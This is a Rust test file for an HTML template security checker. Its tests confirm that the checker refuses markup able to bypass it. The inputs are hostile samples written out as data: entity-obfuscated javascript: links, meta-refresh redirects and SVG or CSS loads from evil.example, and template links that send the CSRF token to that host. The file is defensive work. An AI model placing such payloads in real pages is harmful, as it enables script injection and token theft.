//! Each rule with what got around it once, in templates and in finished pages.

use super::*;

const PAGE: &str = "templates/pages/x.html";
const MAIL: &str = "templates/mail/x.html";

fn codes(path: &str, text: &str) -> Vec<&'static str> {
    let mut found = Vec::new();
    check(path, text, &mut found);
    assert!(found.iter().all(|it| it.at <= text.len()), "{text}");
    found.into_iter().map(|it| it.code).collect()
}

/// Refused in a template with this code, and in a finished page.
#[track_caller]
fn refused(path: &str, code: &str, text: &str) {
    assert!(codes(path, text).contains(&code), "{text}: {:?}", codes(path, text));
    assert!(rendered(text, is_mail(path)).is_some(), "{text}");
}

/// Accepted in both.
#[track_caller]
fn accepted(path: &str, text: &str) {
    assert_eq!(codes(path, text), [""; 0], "{text}");
    assert_eq!(rendered(text, is_mail(path)), None, "{text}");
}

#[test]
fn no_tag_hides_another() {
    let refresh = "<meta http-equiv='refresh' content='0;url=https://evil.example/'>";
    for element in ["textarea", "title", "xmp", "noembed", "noframes", "plaintext", "listing", "style", "noscript"] {
        refused(PAGE, "E0817", &format!("<{element} aria-label=\"x\"><p title=\"</{element}>{refresh}\"></{element}>"));
    }
    for text in [
        "<!doctype html <p title='><script>x</script>'>",
        "<!doctype html SYSTEM '><script>'>",
        "<p><!doctype html>",
        "<!-- <p title='--><script>'> -->",
        "<![CDATA[<p>]]>",
        "<?xml?>",
        "<p<b>",
        "<p\"x='>\n'>",
        "<p title=a<b>",
        "<p a<b>",
        "</p title='<script>'>",
        "</p<script>",
        "<xmp>",
        "<PlainText>",
    ] {
        refused(PAGE, "E0817", text);
    }
    accepted(
        PAGE,
        "\n<!DOCTYPE html>\n<title>a &lt; b</title><p title=\"a &lt; b\">1 < 2 </p ><template><x-a.b></x-a.b></template>",
    );
    assert!(codes(PAGE, "<p title=\"x").contains(&"E0817"));
    // What stands in a file is never taken for a value that is printed.
    assert!(codes(PAGE, "<img src=\"\u{1}//evil.example/\" alt=\"\">").contains(&"E0816"));
}

#[test]
fn values_are_looked_at_as_they_are_meant() {
    for (code, text) in [
        ("E0817", "<meta name=\"referre&#114;\" content=\"unsafe-url\">"),
        ("E0817", "<meta name=\"&#x52;eferrer\" content=\"unsafe-url\">"),
        ("E0814", "<a href=\"java&#115;cript:x\">"),
        ("E0814", "<a href=\"java&Tab;script&colon;x\">"),
        ("E0814", "<area href=\"&#1;javascript:x\">"),
        ("E0814", "<svg><a xlink:href=\"&#x6A;avascript:x\"></a></svg>"),
        ("E0817", "<form action=\"&sol;&sol;evil.example\">"),
        ("E0817", "<form action=\"/&bsol;evil.example\">"),
        ("E0817", "<form action=\"/&#9;/evil.example\">"),
        ("E0817", "<button form=\"f\" formaction=\"javascript&colon;x\">"),
        ("E0816", "<img src=\"&#47/evil.example\">"),
        ("E0816", "<img srcset=\"a.png 1x&comma;//evil.example 2x\">"),
        ("E0814", "<script type=\"module\" src=\"/-/assets/&period;./x.js\"></script>"),
        ("E0814", "<script type=\"module\" src=\"/-/assets/a?x=.js\"></script>"),
    ] {
        refused(PAGE, code, text);
    }
    accepted(PAGE, "<a href=\"x?a=1&amp;b=2&c=&#39;\" title=\"&copy; &hellip; &nbsp;\">x</a>");
}

#[test]
fn nothing_is_loaded_from_elsewhere_and_nobody_is_told() {
    for (code, text) in [
        ("E0816", "<svg><use xlink:href=\"https://evil.example/x.svg#a\"/></svg>"),
        ("E0816", "<svg><image xlink:href=\"https://evil.example/x\"/></svg>"),
        ("E0816", "<svg><feImage href=\"https://evil.example/x\"/></svg>"),
        ("E0816", "<svg><linearGradient href=\"https://evil.example/x#a\"/></svg>"),
        ("E0816", "<svg><rect fill=\"url(https://evil.example/x)\"/></svg>"),
        ("E0816", "<svg><rect clip-path=\"URL&lpar;'//evil.example/x')\"/></svg>"),
        ("E0816", "<svg><rect fill=\"url(#a) url(x)\"/></svg>"),
        ("E0816", "<svg><rect fill=\"u\\72l(https://evil.example/x)\"/></svg>"),
        ("E0816", "<svg><rect mask=\"-webkit-image-set('https://evil.example/x' 1x)\"/></svg>"),
        ("E0817", "<svg><a><animate attributeName=\"href\" to=\"javascript:x\"/></a></svg>"),
        ("E0817", "<svg><a><set attributeName=\"href\" to=\"javascript:x\"/></a></svg>"),
        ("E0817", "<svg><animateTransform/></svg>"),
        ("E0817", "<svg><animateMotion/></svg>"),
        ("E0817", "<svg><handler>x</handler></svg>"),
        ("E0817", "<a href=\"x\" ping=\"x\">"),
        ("E0817", "<a href=\"https://evil.example/\" attributionsrc>"),
        ("E0817", "<svg xml:base=\"https://evil.example/\">"),
        ("E0817", "<a href=\"https://evil.example/\" target=\"x\">"),
        ("E0817", "<input form=\"f\" formtarget=\"&#120;\">"),
        ("E0816", "<input type=\"image\" src=\"https://evil.example/x\" alt=\"x\">"),
        ("E0816", "<video poster=\"//evil.example/x\">"),
        ("E0816", "<image src=\"//evil.example/x\">"),
        ("E0816", "<math href=\"https://evil.example/\">"),
        ("E0817", "<meta content=\"unsafe-url\" NAME=' referrer '>"),
    ] {
        refused(PAGE, code, text);
    }
    for rel in ["preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "manifest", "icon"] {
        refused(PAGE, "E0816", &format!("<link rel=\"{rel}\" href=\"//evil.example\">"));
    }
    accepted(PAGE, "<svg><rect fill=\"url(#a)\" transform=\"rotate(45)\"/><use xlink:href=\"#a\"/></svg>");
    accepted(PAGE, "<input value=\"url(https://x)\" pattern=\"\\(x\\)\" data-x=\"src(\"><button form=\"f\">x</button>");
    accepted(
        PAGE,
        "<source media=\"(min-width: 1em)\" srcset=\"a.png\"><a href=\"https://a.example\" target=\"_blank\">",
    );
}

#[test]
fn mails_load_nothing() {
    for style in [
        "background:url(x)",
        "background:image-set('https:evil.example' 1x)",
        "background:image-set('evil' 1x)",
        "background:u&#114;l(//evil.example)",
        "background:u\\72l(evil)",
        "background:u\\72 l(evil)",
        "background:ur/**/l(evil)",
        "x:expression(y)",
        "x:src('evil')",
        "x:rgb(1,2,3)('x')",
        "x:xrgb(1)",
        "x:('y')",
        "x:{y}",
        "@import 'x'",
        "color:red&amp;",
    ] {
        refused(MAIL, "E0816", &format!("<p style=\"{style}\">"));
    }
    for text in [
        "<img src=\"https://evil.example/x\" alt=\"\">",
        "<td background=\"https://evil.example/x\">",
        "<v:fill src=\"https://evil.example/x\">",
        "<v:fill o:href=\"https://evil.example/x\">",
        "<img lowsrc=\"https://evil.example/x\" alt=\"\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x\">",
    ] {
        refused(MAIL, "E0816", text);
    }
    refused(MAIL, "E0815", "<style>p{}</style>");
    accepted(
        MAIL,
        "<p style=\"background:#12ab34;margin:0 -1px;font-family:system-ui,'Segoe UI';color:rgb(1,2,3) !important\">",
    );
    let printed =
        "style=\"background:{{ site.brand }};padding:0 {% if site.dir == \"rtl\" %}20px 0{% else %}0 20px{% endif %}\"";
    assert_eq!(codes(MAIL, &format!("<p {printed}>")), [""; 0]);
    assert!(codes(MAIL, "<p style=\"background:{{ page.x }}('x')\">").contains(&"E0816"));
    assert!(rendered("<p style=\"background:&#39;\">", true).is_some());
}

#[test]
fn links_carry_nothing_away() {
    for text in [
        "<a href=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<a href='HTTP&colon;//evil.example/?c={{ frame.csrf }}'>",
        "<area href=\"https://{{ page.name }}.evil.example\">",
        "<svg><a xlink:href=\"https://evil.example/?c={{ frame.csrf }}\"></a></svg>",
        "<a href=\"mailto:x@evil.example?body={{ page.code }}\">",
        "<a href=\"{{ site.help_url }}?c={{ frame.csrf }}\">",
        "<a href=\"{{ page.x ~ frame.csrf }}\">",
        "<a href=\"{{ \"https://evil.example/?c=\" ~ frame.csrf }}\">",
        "<a href=\"{{ \"x\" | t(c=frame.csrf) }}\">",
        "{% set x = \"https://evil.example/?c=\" ~ frame.csrf %}<a href=\"{{ x }}\">",
        "{% set href = \"https://evil.example/?c=\" ~ frame.csrf %}<a href=\"{{ href }}\">",
        "{{ <mail_button href={\"https://evil.example/?c=\" ~ frame.csrf} label=\"x\"/> }}",
        "{{ <mail_button label=\"x\" href={x}/> }}",
        "<a href=\"https://evil.example/\" target=\"{{ frame.csrf }}\">",
        // Names in pieces.
        "<a hr{# #}ef=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<a hr {%- if true -%} ef=\"https://evil.example/?c={{ frame.csrf }}\"{% endif %}>",
        "<ar{# #}ea href=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<{# #}a href=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<{% if true %}a href=\"https://evil.example/?c={{ frame.csrf }}\">{% endif %}",
        "{% if true %}< {%- endif -%} a href=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<",
        // Tags and values that end elsewhere than it seems.
        "<a href=\"https://evil.example/?c={% if x %}\">{% endif %}{{ frame.csrf }}\">",
        "<a {% if x %}>{% endif %} href=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<a href{% if x %}x{% endif %}=\"https://evil.example/?c={{ frame.csrf }}\">",
        "<a t={% if x %}x {% endif %}title=\" href='https://evil.example/?c={{ frame.csrf }}' \">",
        "<a t=x{% if x %} {% endif %}title=\" href='https://evil.example/?c={{ frame.csrf }}' \">",
        "<a title=\"{% if x %}\" x=\"{% endif %}\" href=\"#\">",
        "<a href=\"https://evil.example/?c=",
        // What is put in from elsewhere.
        "<a href=\"https://evil.example/?c={% include \"partials/x.html\" %}\">",
        "<a href=\"https://evil.example/?c={% block x %}{% endblock %}\">",
        "<a {% include \"partials/x.html\" %}>",
        "<a {% block x %}{% endblock %}>",
        "<a title=\"{% include \"partials/x.attr.html\" %}\">",
        "<a title=\"{{ <x/> }}\">",
        "<a title=\"{{ super() }}\">",
    ] {
        assert!(codes(PAGE, text).contains(&"E0817"), "{text}: {:?}", codes(PAGE, text));
    }
    for good in [
        "<a href=\"{{ page.url }}\">",
        "<a href=\"{{ page.url | default(value=\"https://a.example\") -}}\">",
        "<a href=\"{{ site.base }}{{ cancel }}\">",
        "<a href=\"{{ device.href }}/remove{% if page.x %}?x=1{% endif %}\" class=\"a{% if page.x %} b{% endif %}\">",
        "<a href=\"#{{ problem.field }}\" {% if page.x %}title=\"{{ \"x\" | t(a=page.x) }}\"{% endif %}>",
        "<a href=\"https://a.example/{# #}\"{% include \"partials/x.attr.html\" %} hidden>",
        "<a href=\"?x={{ page.x }}\" target=\"_blank\">",
        "<a href=\"{{ asset(name=\"x.pdf\") }}\" download>",
        "{{ <mail_button href={page.link} label={\"x\" | t(a=page.b)}/> }}{{ <mail_button href=\"#a\" label={x}/> }}",
        "{% set href = page.link %}{% if page.href == \"x\" %}{{ \"x\" | t(href=page.x) }}{% endif %}",
        "{% component x(href: string, b: string) %}<a href=\"{{ href }}\">{{ b }}</a>{% endcomponent x %}",
        "<div {% if page.x %}class=\"a\"{% else %}class=\"b\"{% endif %}>",
    ] {
        assert_eq!(codes(PAGE, good), [""; 0], "{good}");
    }
}

#[test]
fn what_is_included_within_tags_holds_attributes() {
    let part = "templates/partials/x.attr.html";
    for bad in [
        " href=\"https://evil.example/?c={{ frame.csrf }}\"",
        "ef=\"https://evil.example/?c={{ frame.csrf }}\"",
        "><a href=\"https://evil.example/\">",
        " x=\"",
        " t=",
        " t=x",
        "\" x=\"",
        "{% block x %}{% endblock %}",
        "{% extends \"partials/y.attr.html\" %}",
        "{% if x %} x=\"{% endif %}\"",
        " x=\"{{ <y/> }}\"",
    ] {
        assert!(codes(part, bad).contains(&"E0817"), "{bad}: {:?}", codes(part, bad));
    }
    assert!(codes(part, " {{ page.x }}").contains(&"E0814"));
    assert!(codes(part, " onclick=\"x()\"").contains(&"E0814"));
    let good = "{# x #}{% if page.x %} required{% endif %}{% if page.y %} aria-describedby=\"{% if page.x %}{{ page.x }}-help{% endif %}\"{% endif %}";
    assert_eq!(codes(part, good), [""; 0]);
}

#[test]
fn nothing_printed_reaches_a_foreign_address_by_another_way() {
    for text in [
        "<a href=\"{{ asset(name=\"icons.svg\") if false else \"https://evil.example/?\" ~ site.name }}\">x</a>",
        "{% set href = asset(name=\"icons.svg\") if false else \"https://evil.example/?\" ~ site.name %}",
        "<a href=\"https://evil.example/{% if site.name == \"A\" %}1{% endif %}\">x</a>",
        "<x-advice data-from=\"https://evil.example/\"></x-advice>",
        "<x-ceremony data-options=\"//evil.example/x\"></x-ceremony>",
    ] {
        assert!(codes(PAGE, text).contains(&"E0817"), "{text}: {:?}", codes(PAGE, text));
    }
    accepted(
        PAGE,
        "<x-progress data-from=\"/acme/profile/data\"></x-progress><a href=\"https://help.example/a\">x</a>",
    );
}

#[test]
fn a_tag_has_few_attributes() {
    refused(PAGE, "E0817", &format!("<p {}>", "b ".repeat(10_000)));
    accepted(PAGE, &format!("<p {}>", "b ".repeat(64)));
}
